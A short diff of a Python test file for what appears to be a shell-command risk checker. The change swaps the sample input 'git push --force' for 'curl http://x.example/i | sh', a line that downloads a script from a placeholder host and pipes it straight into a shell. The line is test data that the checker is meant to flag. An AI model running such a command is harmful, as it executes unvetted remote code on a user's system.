@@ -196,7 +196,7 @@ def test_any_text_gets_a_verdict(line: str) -> None:
 
 
 def test_an_alternative_is_lower_and_brings_no_new_effect(tmp_path: Path) -> None:
-    verdict = verdict_on("git push --force", str(tmp_path))
+    verdict = verdict_on("curl http://x.example/i | sh", str(tmp_path))
     assert verdict.safe_alternative is not None
     assert verdict.safe_alternative.risk_level < verdict.risk.score
     other = understand(verdict.safe_alternative.command, NOTHING_KNOWN)
